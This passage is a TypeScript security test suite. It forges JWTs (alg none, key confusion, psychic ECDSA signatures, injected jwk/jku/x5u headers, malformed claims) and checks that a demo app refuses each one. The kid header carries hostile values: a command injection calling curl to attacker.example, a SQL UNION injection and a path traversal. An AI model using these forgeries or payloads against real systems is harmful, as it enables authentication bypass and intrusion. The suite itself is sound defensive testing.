// Adversarial suite: forged, malformed and revoked tokens against the demo app over HTTP.
// Sources: RFC 8725 (JWT BCP), RFC 7519 (JWT), RFC 7515 (JWS), RFC 6750 (bearer usage),
// jwt_tool attack modes (-X a/n/k/i/s/b), jsonwebtoken CVE-2022-23529/23539/23540/23541,
// CVE-2022-21449 (psychic ECDSA signature) and CVE-2018-0114 (jwk header injection).
// Every refused request must leave the database as it was, never answer 5xx and never echo
// the token or its claims.
import {
  constants as cryptoConstants,
  createHmac,
  generateKeyPairSync,
  randomUUID,
  sign as cryptoSign,
  type KeyObject,
} from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { DataSource } from 'typeorm';
import { AuthTokenService } from 'nestjs-jwt-revocation';
import { testMatrix } from './support/databases';
import { bearer, registerAndLogin, startApp, TEST_AUDIENCE, TEST_ISSUER, TEST_SECRET, type LoggedIn, type TestApp } from './support/test-app';

// ---------- forging ----------

type Signer = (input: string) => string;

const b64url = (value: string | Buffer): string => Buffer.from(value).toString('base64url');
const segment = (value: unknown): string => b64url(typeof value === 'string' ? value : JSON.stringify(value));

/** A compact JWS from a header and payload (objects are JSON-encoded; `raw(...)` strings are used as is). */
function jws(header: unknown, payload: unknown, signer: Signer): string {
  const input = `${encode(header)}.${encode(payload)}`;
  return `${input}.${signer(input)}`;
}

const RAW = Symbol('raw');
/** A segment given as its exact JSON text (e.g. duplicate keys, a JSON string, invalid JSON). */
const rawJson = (text: string) => ({ [RAW]: text });
function encode(value: unknown): string {
  if (typeof value === 'object' && value !== null && RAW in value) return b64url((value as { [RAW]: string })[RAW]);
  return segment(value);
}

const hmac =
  (secret: string | Buffer, hash = 'sha256'): Signer =>
  (input) =>
    b64url(createHmac(hash, secret).update(input).digest());
const noSignature: Signer = () => '';
const fixedSignature =
  (signature: string): Signer =>
  () =>
    signature;

function asymmetric(alg: 'RS256' | 'PS256' | 'ES256' | 'EdDSA', privateKey: KeyObject): Signer {
  return (input) => {
    const data = Buffer.from(input);
    if (alg === 'RS256') return b64url(cryptoSign('sha256', data, privateKey));
    if (alg === 'PS256') {
      return b64url(cryptoSign('sha256', data, { key: privateKey, padding: cryptoConstants.RSA_PKCS1_PSS_PADDING, saltLength: 32 }));
    }
    if (alg === 'ES256') return b64url(withS(cryptoSign('sha256', data, { key: privateKey, dsaEncoding: 'ieee-p1363' }), 'low'));
    return b64url(cryptoSign(null, data, privateKey));
  };
}

/** An ES256 signature r ‖ s with s in the low (≤ n/2, the one accepted) or the high (n − s) form. */
function withS(signature: Buffer, form: 'low' | 'high'): Buffer {
  const order = BigInt(`0x${P256_ORDER.toString('hex')}`);
  const s = BigInt(`0x${signature.subarray(32).toString('hex')}`);
  const isLow = s <= order / 2n;
  if (isLow === (form === 'low')) return signature;
  return Buffer.concat([signature.subarray(0, 32), Buffer.from((order - s).toString(16).padStart(64, '0'), 'hex')]);
}

/** A valid ES256 signature of the key, spelt with the high S that ECDSA also verifies. */
const highS =
  (privateKey: KeyObject): Signer =>
  (input) =>
    b64url(withS(cryptoSign('sha256', Buffer.from(input), { key: privateKey, dsaEncoding: 'ieee-p1363' }), 'high'));

const appSecret = hmac(TEST_SECRET);
const HS = { alg: 'HS256', typ: 'at+jwt' };
const CANARY = 'cnry-7f3a9c'; // written into forged tokens; no response body may contain it

const nowSeconds = () => Math.floor(Date.now() / 1000);
const without = (object: Record<string, unknown>, ...keys: string[]) =>
  Object.fromEntries(Object.entries(object).filter(([key]) => !keys.includes(key)));

// Keys of the asymmetric app (RS256 signs; ES256 and EdDSA verify) and of the attacker.
const appRsa = generateKeyPairSync('rsa', { modulusLength: 2048 });
const appEc = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const appEd = generateKeyPairSync('ed25519');
const attackerRsa = generateKeyPairSync('rsa', { modulusLength: 2048 });
const attackerEc = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const attackerEd = generateKeyPairSync('ed25519');
const OTHER_APP_SECRET = 'the-secret-of-another-app-using-the-same-library-0123';
// P-256 group order: r = s = n is the other classic psychic signature.
const P256_ORDER = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex');

// ---------- responses ----------

type Expectation = 'ok' | 'invalid_token' | 'invalid_request' | 'no_token';

const EXPECTED: Record<Exclude<Expectation, 'ok'>, { status: number; challenge: string; body: unknown }> = {
  invalid_token: {
    status: 401,
    challenge: 'Bearer error="invalid_token"',
    body: { statusCode: 401, error: 'invalid_token', message: 'The access token is invalid, expired or revoked' },
  },
  invalid_request: {
    status: 400,
    challenge: 'Bearer error="invalid_request"',
    body: { statusCode: 400, error: 'invalid_request', message: 'Send exactly one token as "Authorization: Bearer <token>"' },
  },
  no_token: {
    status: 401,
    challenge: 'Bearer',
    body: { statusCode: 401, error: 'Unauthorized', message: 'Authentication required' },
  },
};

interface AttackRequest {
  /** Sent as `Authorization: Bearer <token>` unless `authorization` is given. */
  token?: string;
  /** Raw Authorization value; an array sends the header several times. */
  authorization?: string | string[];
  /** Query string appended to the path (without `?`). */
  query?: string;
  /** application/x-www-form-urlencoded body. */
  form?: string;
  /** Which app receives it. Default: the HS256 demo app. */
  app?: 'hs' | 'multi';
  /** Date.now() while the request runs (a controlled clock). */
  clock?: number;
  /** More strings no response may echo. */
  secrets?: string[];
}

interface Victim extends LoggedIn {
  sid: string;
}

interface Context {
  hs: TestApp;
  multi: TestApp;
  dataSource: DataSource;
  /** A user of the HS256 app whose session stays live through the suite. */
  victim: Victim;
  /** A second user, for cross-user confusion. */
  other: Victim;
  /** A user of the multi-key app (RS256 signs, ES256 and EdDSA verify). */
  multiVictim: Victim;
  /** Requests the fake JWKS / certificate server received (must stay 0). */
  keyServerHits: () => number;
  keyServerUrl: string;
}

interface AttackCase {
  name: string;
  expect: Expectation;
  build(ctx: Context): AttackRequest | Promise<AttackRequest>;
}

function claimsOf(user: Victim, overrides: Record<string, unknown> = {}): Record<string, unknown> {
  const now = nowSeconds();
  return { sub: String(user.id), ver: 0, typ: 'access', jti: randomUUID(), sid: user.sid, iat: now, exp: now + 900, iss: TEST_ISSUER, aud: TEST_AUDIENCE, cnry: CANARY, ...overrides };
}

/** A token of the victim signed with the app secret, identical to a real one except for `overrides`. */
const victimToken = (ctx: Context, overrides: Record<string, unknown> = {}, header: unknown = HS) =>
  jws(header, claimsOf(ctx.victim, overrides), appSecret);

async function victimOf(t: TestApp): Promise<Victim> {
  const user = await registerAndLogin(t);
  const payload = JSON.parse(Buffer.from(user.accessToken.split('.')[1], 'base64url').toString());
  return { ...user, sid: payload.sid };
}

// ---------- cases ----------

const cases: AttackCase[] = [
  // Controls: prove the forging helpers produce tokens the app accepts, so every refusal below
  // is caused by the one thing each case changes.
  { name: 'control: a token forged with the app secret and real claims is accepted', expect: 'ok', build: (c) => ({ token: victimToken(c) }) },
  {
    name: 'control (RFC 6750 §2.1, RFC 9110 §11.1): the scheme is case-insensitive, lowercase `bearer` works',
    expect: 'ok',
    build: (c) => ({ authorization: `bearer ${c.victim.accessToken}` }),
  },
  { name: 'control: uppercase `BEARER` works', expect: 'ok', build: (c) => ({ authorization: `BEARER ${c.victim.accessToken}` }) },
  { name: 'control: iat in the future within the 5 s tolerance is accepted', expect: 'ok', build: (c) => ({ token: victimToken(c, { iat: nowSeconds() + 3 }) }) },
  { name: 'control: an RS256 token of the multi-key app is accepted', expect: 'ok', build: (c) => ({ app: 'multi', token: c.multiVictim.accessToken }) },
  {
    name: 'control: an ES256 token with kid es-1 signed by the configured EC key is accepted',
    expect: 'ok',
    build: (c) => ({ app: 'multi', token: jws({ alg: 'ES256', typ: 'at+jwt', kid: 'es-1' }, claimsOf(c.multiVictim), asymmetric('ES256', appEc.privateKey)) }),
  },
  {
    name: 'control: an EdDSA token with kid ed-1 signed by the configured Ed25519 key is accepted',
    expect: 'ok',
    build: (c) => ({ app: 'multi', token: jws({ alg: 'EdDSA', typ: 'at+jwt', kid: 'ed-1' }, claimsOf(c.multiVictim), asymmetric('EdDSA', appEd.privateKey)) }),
  },

  // alg "none" (RFC 8725 §3.1, RFC 7518 §3.6, jwt_tool -X a, CVE-2022-23540)
  // RFC 9068 §2.1 / RFC 8725 §3.11: explicit typing, so no other JWT signed with the key passes as an access token.
  { name: 'typ "JWT" (an ordinary JWT, e.g. from the app\'s own JwtService), otherwise valid', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, {}, { alg: 'HS256', typ: 'JWT' }) }) },
  { name: 'no typ in the header, otherwise valid', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, {}, { alg: 'HS256' }) }) },
  { name: 'typ "at+jwt" only as a payload claim', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { typ: 'at+jwt' }, { alg: 'HS256' }) }) },
  // Issue 11 item 18: the demo sets issuer and audience, so a token minted for another service with the same key is refused.
  { name: 'iss missing', expect: 'invalid_token', build: (c) => ({ token: jws(HS, without(claimsOf(c.victim), 'iss'), appSecret) }) },
  { name: 'iss of another service', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { iss: 'https://other.example' }) }) },
  { name: 'aud missing', expect: 'invalid_token', build: (c) => ({ token: jws(HS, without(claimsOf(c.victim), 'aud'), appSecret) }) },
  { name: 'aud of another service', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { aud: 'other-api' }) }) },
  { name: 'aud an array without ours', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { aud: ['other-api', 'third-api'] }) }) },
  { name: 'alg "none" without signature', expect: 'invalid_token', build: (c) => ({ token: `${segment({ alg: 'none', typ: 'at+jwt' })}.${segment(claimsOf(c.victim))}.` }) },
  { name: 'alg "none" with an empty signature segment accepted by lenient parsers', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'none' }, claimsOf(c.victim), noSignature) }) },
  { name: 'alg "None" with the valid HMAC signature', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'None', typ: 'at+jwt' }, claimsOf(c.victim), appSecret) }) },
  { name: 'alg "NONE" with a junk signature', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'NONE', typ: 'at+jwt' }, claimsOf(c.victim), fixedSignature('AAAA')) }) },
  { name: 'alg "nOnE" without signature', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'nOnE', typ: 'at+jwt' }, claimsOf(c.victim), noSignature) }) },
  { name: 'alg missing from the header, valid HMAC signature', expect: 'invalid_token', build: (c) => ({ token: jws({ typ: 'at+jwt' }, claimsOf(c.victim), appSecret) }) },
  { name: 'alg as an array ["HS256"]', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: ['HS256'], typ: 'at+jwt' }, claimsOf(c.victim), appSecret) }) },
  {
    name: 'duplicate "alg" in the header JSON, "none" last (parser differential)',
    expect: 'invalid_token',
    build: (c) => ({ token: jws(rawJson('{"alg":"HS256","alg":"none","typ":"at+jwt"}'), claimsOf(c.victim), appSecret) }),
  },

  // Algorithm pinning and confusion (RFC 8725 §2.1/§3.1, CVE-2022-23541, jwt_tool -X k)
  { name: 'alg HS384 signed with the app secret (algorithm is the key\'s, not the header\'s)', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'HS384', typ: 'at+jwt' }, claimsOf(c.victim), hmac(TEST_SECRET, 'sha384')) }) },
  { name: 'alg HS512 signed with the app secret', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'HS512', typ: 'at+jwt' }, claimsOf(c.victim), hmac(TEST_SECRET, 'sha512')) }) },
  { name: 'HS256 signed with the secret of another app', expect: 'invalid_token', build: (c) => ({ token: jws(HS, claimsOf(c.victim), hmac(OTHER_APP_SECRET)) }) },
  { name: 'HS256 signed with an empty key (jwt_tool blank password)', expect: 'invalid_token', build: (c) => ({ token: jws(HS, claimsOf(c.victim), hmac('')) }) },
  { name: 'RS256 header against the HS256 app, signed with an attacker RSA key', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'RS256', typ: 'at+jwt' }, claimsOf(c.victim), asymmetric('RS256', attackerRsa.privateKey)) }) },
  { name: 'RS256 header against the HS256 app, HMAC-signed with the app secret', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'RS256', typ: 'at+jwt' }, claimsOf(c.victim), appSecret) }) },
  { name: 'ES256 header against the HS256 app, signed with an attacker EC key', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'ES256', typ: 'at+jwt' }, claimsOf(c.victim), asymmetric('ES256', attackerEc.privateKey)) }) },
  { name: 'EdDSA header against the HS256 app, signed with an attacker Ed25519 key', expect: 'invalid_token', build: (c) => ({ token: jws({ alg: 'EdDSA', typ: 'at+jwt' }, claimsOf(c.victim), asymmetric('EdDSA', attackerEd.privateKey)) }) },
  {
    name: 'CVE-2022-23541: HS256 with kid rs-1, HMAC-signed with the RSA public key PEM',
    expect: 'invalid_token',
    build: (c) => ({
      app: 'multi',
      token: jws({ alg: 'HS256', typ: 'at+jwt', kid: 'rs-1' }, claimsOf(c.multiVictim), hmac(appRsa.publicKey.export({ type: 'spki', format: 'pem' }) as string)),
    }),
  },
  {
    name: 'CVE-2022-23541: HS256 with kid rs-1, HMAC-signed with the RSA public key DER (PKCS#1)',
    expect: 'invalid_token',
    build: (c) => ({
      app: 'multi',
      token: jws({ alg: 'HS256', typ: 'at+jwt', kid: 'rs-1' }, claimsOf(c.multiVictim), hmac(appRsa.publicKey.export({ type: 'pkcs1', format: 'der' }) as Buffer)),
    }),
  },
  {
    name: 'CVE-2022-23541: HS256 without kid, HMAC-signed with the RSA public key PEM',
    expect: 'invalid_token',
    build: (c) => ({ app: 'multi', token: jws(HS, claimsOf(c.multiVictim), hmac(appRsa.publicKey.export({ type: 'spki', format: 'pem' }) as string)) }),
  },
  {
    name: 'PS256 header with kid rs-1, signed with the app\'s own RSA private key (RS256-only key)',
    expect: 'invalid_token',
    build: (c) => ({ app: 'multi', token: jws({ alg: 'PS256', typ: 'at+jwt', kid: 'rs-1' }, claimsOf(c.multiVictim), asymmetric('PS256', appRsa.privateKey)) }),
  },
  {
    name: 'ES256 header naming the RSA kid rs-1, valid signature of the configured EC key',
    expect: 'invalid_token',
    build: (c) => ({ app: 'multi', token: jws({ alg: 'ES256', typ: 'at+jwt', kid: 'rs-1' }, claimsOf(c.multiVictim), asymmetric('ES256', appEc.privateKey)) }),
  },
  {
    name: 'ES256 kid es-1, a valid signature of the configured EC key with s replaced by n − s (malleability)',
    expect: 'invalid_token',
    build: (c) => ({ app: 'multi', token: jws({ alg: 'ES256', typ: 'JWT', kid: 'es-1' }, claimsOf(c.multiVictim), highS(appEc.privateKey)) }),
  },
  {
    name: 'CVE-2022-21449 psychic signature: ES256 kid es-1 with r = s = 0',
    expect: 'invalid_token',
    build: (c) => ({ app: 'multi', token: jws({ alg: 'ES256', typ: 'at+jwt', kid: 'es-1' }, claimsOf(c.multiVictim), fixedSignature(b64url(Buffer.alloc(64)))) }),
  },
  {
    name: 'CVE-2022-21449 variant: ES256 kid es-1 with r = s = n (the curve order)',
    expect: 'invalid_token',
    build: (c) => ({
      app: 'multi',
      token: jws({ alg: 'ES256', typ: 'at+jwt', kid: 'es-1' }, claimsOf(c.multiVictim), fixedSignature(b64url(Buffer.concat([P256_ORDER, P256_ORDER])))),
    }),
  },
  {
    name: 'EdDSA kid ed-1 with an all-zero signature',
    expect: 'invalid_token',
    build: (c) => ({ app: 'multi', token: jws({ alg: 'EdDSA', typ: 'at+jwt', kid: 'ed-1' }, claimsOf(c.multiVictim), fixedSignature(b64url(Buffer.alloc(64)))) }),
  },

  // Headers that let the token pick its key (CVE-2018-0114, RFC 8725 §3.10, jwt_tool -X i / -X s)
  {
    name: 'CVE-2018-0114: RS256 with an embedded jwk of the attacker, signed by the attacker (multi-key app)',
    expect: 'invalid_token',
    build: (c) => ({
      app: 'multi',
      token: jws({ alg: 'RS256', typ: 'at+jwt', jwk: attackerRsa.publicKey.export({ format: 'jwk' }) }, claimsOf(c.multiVictim), asymmetric('RS256', attackerRsa.privateKey)),
    }),
  },
  {
    name: 'CVE-2018-0114: RS256 with kid rs-1 and an embedded attacker jwk',
    expect: 'invalid_token',
    build: (c) => ({
      app: 'multi',
      token: jws(
        { alg: 'RS256', typ: 'at+jwt', kid: 'rs-1', jwk: { ...attackerRsa.publicKey.export({ format: 'jwk' }), kid: 'rs-1' } },
        claimsOf(c.multiVictim),
        asymmetric('RS256', attackerRsa.privateKey),
      ),
    }),
  },
  {
    name: 'HS256 with an embedded oct jwk whose k is the attacker\'s secret',
    expect: 'invalid_token',
    build: (c) => ({ token: jws({ ...HS, jwk: { kty: 'oct', k: b64url(OTHER_APP_SECRET) } }, claimsOf(c.victim), hmac(OTHER_APP_SECRET)) }),
  },
  {
    name: 'jku pointing at an attacker JWKS (never fetched)',
    expect: 'invalid_token',
    build: (c) => ({
      app: 'multi',
      token: jws({ alg: 'RS256', typ: 'at+jwt', kid: 'rs-1', jku: `${c.keyServerUrl}/jwks.json` }, claimsOf(c.multiVictim), asymmetric('RS256', attackerRsa.privateKey)),
    }),
  },
  {
    name: 'x5u pointing at an attacker certificate (never fetched)',
    expect: 'invalid_token',
    build: (c) => ({
      app: 'multi',
      token: jws({ alg: 'RS256', typ: 'at+jwt', kid: 'rs-1', x5u: `${c.keyServerUrl}/cert.pem` }, claimsOf(c.multiVictim), asymmetric('RS256', attackerRsa.privateKey)),
    }),
  },
  {
    name: 'x5c carrying the attacker key, signed by the attacker',
    expect: 'invalid_token',
    build: (c) => ({
      app: 'multi',
      token: jws(
        { alg: 'RS256', typ: 'at+jwt', x5c: [(attackerRsa.publicKey.export({ type: 'spki', format: 'der' }) as Buffer).toString('base64')] },
        claimsOf(c.multiVictim),
        asymmetric('RS256', attackerRsa.privateKey),
      ),
    }),
  },
  {
    name: 'a key-choosing header (jku) on an otherwise valid token is refused, not ignored',
    expect: 'invalid_token',
    build: (c) => ({ token: victimToken(c, {}, { ...HS, jku: `${c.keyServerUrl}/jwks.json` }) }),
  },
  {
    name: 'crit naming an unknown extension on an otherwise valid token (RFC 7515 §4.1.11)',
    expect: 'invalid_token',
    build: (c) => ({ token: victimToken(c, {}, { ...HS, crit: ['x-unknown'], 'x-unknown': true }) }),
  },
  {
    name: 'b64:false unencoded payload (RFC 7797) on an otherwise valid token',
    expect: 'invalid_token',
    build: (c) => ({ token: victimToken(c, {}, { ...HS, b64: false, crit: ['b64'] }) }),
  },

  // kid injection (RFC 8725 §3.10, jwt_tool -I -hc kid)
  { name: 'kid path traversal ../../dev/null signed with an empty key', expect: 'invalid_token', build: (c) => ({ token: jws({ ...HS, kid: '../../../../../../dev/null' }, claimsOf(c.victim), hmac('')) }) },
  {
    name: 'kid SQL injection selecting a known key',
    expect: 'invalid_token',
    build: (c) => ({ token: jws({ ...HS, kid: "x' UNION SELECT 'attacker-key' -- " }, claimsOf(c.victim), hmac('attacker-key')) }),
  },
  { name: 'kid command injection', expect: 'invalid_token', build: (c) => ({ token: jws({ ...HS, kid: '$(curl attacker.example)|id;' }, claimsOf(c.victim), appSecret) }) },
  { name: 'an unknown kid, valid HMAC signature', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, {}, { ...HS, kid: 'no-such-key' }) }) },
  { name: 'an unknown kid on the multi-key app, signed with the real RSA key', expect: 'invalid_token', build: (c) => ({ app: 'multi', token: jws({ alg: 'RS256', typ: 'at+jwt', kid: 'rs-0' }, claimsOf(c.multiVictim), asymmetric('RS256', appRsa.privateKey)) }) },
  { name: 'no kid on the multi-key app (several keys: kid required)', expect: 'invalid_token', build: (c) => ({ app: 'multi', token: jws({ alg: 'RS256', typ: 'at+jwt' }, claimsOf(c.multiVictim), asymmetric('RS256', appRsa.privateKey)) }) },
  {
    name: 'CVE-2022-23529 shape: kid an object with toString',
    expect: 'invalid_token',
    build: (c) => ({ token: jws(rawJson('{"alg":"HS256","typ":"at+jwt","kid":{"toString":"x","valueOf":1,"__proto__":{"polluted":true}}}'), claimsOf(c.victim), appSecret) }),
  },
  { name: 'kid "__proto__"', expect: 'invalid_token', build: (c) => ({ app: 'multi', token: jws({ alg: 'RS256', typ: 'at+jwt', kid: '__proto__' }, claimsOf(c.multiVictim), asymmetric('RS256', appRsa.privateKey)) }) },

  // Time claims (RFC 7519 §4.1.4-4.1.6)
  { name: 'expired an hour ago', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { iat: nowSeconds() - 4600, exp: nowSeconds() - 3600 }) }) },
  {
    name: 'controlled clock: exactly at exp + clockTolerance (5 s)',
    expect: 'invalid_token',
    build: (c) => {
      const exp = nowSeconds() + 60;
      return { token: victimToken(c, { iat: exp - 900, exp }), clock: (exp + 5) * 1000 };
    },
  },
  {
    name: 'controlled clock (control): 1 ms before exp + clockTolerance is accepted',
    expect: 'ok',
    build: (c) => {
      const exp = nowSeconds() + 60;
      return { token: victimToken(c, { iat: exp - 900, exp }), clock: (exp + 5) * 1000 - 1 };
    },
  },
  {
    name: 'controlled clock: exactly at exp on the app with clockTolerance 0',
    expect: 'invalid_token',
    build: (c) => {
      const exp = nowSeconds() + 60;
      return { app: 'multi', token: jws({ alg: 'RS256', typ: 'at+jwt', kid: 'rs-1' }, claimsOf(c.multiVictim, { iat: exp - 900, exp }), asymmetric('RS256', appRsa.privateKey)), clock: exp * 1000 };
    },
  },
  {
    name: 'controlled clock (control): 1 ms before exp on the app with clockTolerance 0 is accepted',
    expect: 'ok',
    build: (c) => {
      const exp = nowSeconds() + 60;
      return { app: 'multi', token: jws({ alg: 'RS256', typ: 'at+jwt', kid: 'rs-1' }, claimsOf(c.multiVictim, { iat: exp - 900, exp }), asymmetric('RS256', appRsa.privateKey)), clock: exp * 1000 - 1 };
    },
  },
  { name: 'nbf an hour in the future', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { nbf: nowSeconds() + 3600 }) }) },
  { name: 'nbf a string', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { nbf: '0' }) }) },
  { name: 'iat a minute in the future (beyond tolerance)', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { iat: nowSeconds() + 60 }) }) },
  { name: 'iat missing', expect: 'invalid_token', build: (c) => ({ token: jws(HS, without(claimsOf(c.victim), 'iat'), appSecret) }) },
  { name: 'exp missing', expect: 'invalid_token', build: (c) => ({ token: jws(HS, without(claimsOf(c.victim), 'exp'), appSecret) }) },
  { name: 'exp a numeric string', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { exp: String(nowSeconds() + 900) }) }) },
  { name: 'exp a float', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { exp: nowSeconds() + 900.5 }) }) },
  { name: 'exp huge (1e300)', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { exp: 1e300 }) }) },
  { name: 'exp an unsafe integer (2^53)', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { exp: 2 ** 53 }) }) },
  { name: 'exp null', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { exp: null }) }) },

  // Payload shape (RFC 7519 §7.2 step 10: the claims set must be a JSON object)
  { name: 'payload a JSON array', expect: 'invalid_token', build: (c) => ({ token: jws(HS, [claimsOf(c.victim)], appSecret) }) },
  { name: 'payload a JSON string', expect: 'invalid_token', build: () => ({ token: jws(HS, rawJson(JSON.stringify(CANARY)), appSecret) }) },
  { name: 'payload a JSON number', expect: 'invalid_token', build: () => ({ token: jws(HS, rawJson('42'), appSecret) }) },
  { name: 'payload null', expect: 'invalid_token', build: () => ({ token: jws(HS, rawJson('null'), appSecret) }) },
  { name: 'payload not JSON', expect: 'invalid_token', build: () => ({ token: jws(HS, rawJson(`{sub: ${CANARY}`), appSecret) }) },
  {
    name: 'claims only on __proto__ (no prototype pollution, no inherited claims)',
    expect: 'invalid_token',
    build: (c) => ({ token: jws(HS, rawJson(`{"__proto__": ${JSON.stringify(claimsOf(c.victim))}}`), appSecret) }),
  },

  // Subject (RFC 7519 §4.1.2)
  { name: 'sub missing', expect: 'invalid_token', build: (c) => ({ token: jws(HS, without(claimsOf(c.victim), 'sub'), appSecret) }) },
  { name: 'sub an object', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { sub: { id: c.victim.id } }) }) },
  { name: 'sub an array', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { sub: [String(c.victim.id)] }) }) },
  { name: 'sub an empty string', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { sub: '' }) }) },
  { name: 'sub longer than 255 characters', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { sub: String(c.victim.id).padStart(256, '0') }) }) },
  {
    name: 'sub "<id> OR 1=1" without sid (string against an integer key column)',
    expect: 'invalid_token',
    build: (c) => ({ token: jws(HS, without(claimsOf(c.victim, { sub: `${c.victim.id} OR 1=1` }), 'sid'), appSecret) }),
  },
  { name: 'sub beyond the integer column range', expect: 'invalid_token', build: (c) => ({ token: jws(HS, without(claimsOf(c.victim, { sub: '99999999999999' }), 'sid'), appSecret) }) },
  { name: 'sub of another user with the victim\'s session id', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { sub: String(c.other.id) }) }) },

  // Version claim
  { name: 'ver missing', expect: 'invalid_token', build: (c) => ({ token: jws(HS, without(claimsOf(c.victim), 'ver'), appSecret) }) },
  { name: 'ver a string "0"', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { ver: '0' }) }) },
  { name: 'ver a float 0.0000001', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { ver: 1e-7 }) }) },
  { name: 'ver negative', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { ver: -1 }) }) },
  { name: 'ver an unsafe integer (2^53)', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { ver: 2 ** 53 }) }) },
  { name: 'ver ahead of the stored version', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { ver: 1 }) }) },

  // Token type (RFC 8725 §3.11-3.12: one kind of token never stands in for another)
  { name: 'typ missing', expect: 'invalid_token', build: (c) => ({ token: jws(HS, without(claimsOf(c.victim), 'typ'), appSecret) }) },
  { name: 'typ "refresh"', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { typ: 'refresh' }) }) },
  { name: 'typ "Access" (case matters)', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { typ: 'Access' }) }) },
  { name: 'a refresh token sent as the bearer access token', expect: 'invalid_token', build: (c) => ({ token: c.victim.refreshToken }) },

  // jti / sid
  { name: 'jti missing', expect: 'invalid_token', build: (c) => ({ token: jws(HS, without(claimsOf(c.victim), 'jti'), appSecret) }) },
  { name: 'sid of another user\'s live session', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { sid: c.other.sid }) }) },
  { name: 'sid unknown', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { sid: randomUUID() }) }) },
  { name: 'sid longer than 64 characters', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { sid: `${c.victim.sid}${'a'.repeat(40)}` }) }) },
  { name: 'sid a number', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { sid: 1 }) }) },

  // Authorization header syntax (RFC 6750 §2.1, §3.1)
  {
    name: 'two Authorization headers (valid token first)',
    expect: 'invalid_request',
    build: (c) => ({ authorization: [`Bearer ${c.victim.accessToken}`, `Bearer ${c.other.accessToken}`] }),
  },
  {
    name: 'two Authorization headers (garbage first)',
    expect: 'invalid_request',
    build: (c) => ({ authorization: ['Bearer abc.def.ghi', `Bearer ${c.victim.accessToken}`] }),
  },
  { name: 'two bearer credentials in one header, comma-separated', expect: 'invalid_request', build: (c) => ({ authorization: `Bearer ${c.victim.accessToken}, Bearer ${c.other.accessToken}` }) },
  { name: '`Bearer <token>` followed by trailing data', expect: 'invalid_request', build: (c) => ({ authorization: `Bearer ${c.victim.accessToken} ${CANARY}` }) },
  { name: '`Bearer` followed by two spaces', expect: 'invalid_request', build: (c) => ({ authorization: `Bearer  ${c.victim.accessToken}` }) },
  { name: '`Bearer` without a token', expect: 'invalid_request', build: () => ({ authorization: 'Bearer' }) },
  { name: 'a Basic credential (another scheme carries no bearer token)', expect: 'no_token', build: () => ({ authorization: `Basic ${b64url(`admin:${CANARY}`)}` }) },
  { name: 'the JWT under a `Token` scheme', expect: 'no_token', build: (c) => ({ authorization: `Token ${c.victim.accessToken}` }) },
  { name: 'the token in the query string ?access_token= (RFC 6750 §2.3 refused)', expect: 'invalid_request', build: (c) => ({ query: `access_token=${c.victim.accessToken}` }) },
  {
    name: 'the token in the query string beside a valid Authorization header',
    expect: 'invalid_request',
    build: (c) => ({ token: c.victim.accessToken, query: `access_token=${c.other.accessToken}` }),
  },
  { name: 'the token in a form-encoded body (RFC 6750 §2.2 not supported)', expect: 'no_token', build: (c) => ({ form: `access_token=${c.victim.accessToken}` }) },

  // Token syntax (RFC 7515 §7.1 compact serialization)
  { name: 'a token longer than maxTokenLength (4096)', expect: 'invalid_token', build: (c) => ({ token: victimToken(c, { pad: 'x'.repeat(4096) }) }) },
  {
    name: 'non-base64url characters (+ and /)',
    expect: 'invalid_token',
    build: (c) => {
      const [h, p, s] = victimToken(c).split('.');
      return { token: `${h}.+${p.slice(1)}.${s.slice(0, -1)}/` };
    },
  },
  { name: 'base64 padding "=" on the payload', expect: 'invalid_token', build: (c) => ({ token: (() => { const [h, p, s] = victimToken(c).split('.'); return `${h}.${p}==.${s}`; })() }) },
  { name: 'an empty signature segment', expect: 'invalid_token', build: (c) => ({ token: c.victim.accessToken.slice(0, c.victim.accessToken.lastIndexOf('.') + 1) }) },
  { name: 'two segments only', expect: 'invalid_token', build: (c) => ({ token: c.victim.accessToken.slice(0, c.victim.accessToken.lastIndexOf('.')) }) },
  { name: 'four segments', expect: 'invalid_token', build: (c) => ({ token: `${c.victim.accessToken}.${b64url(CANARY)}` }) },
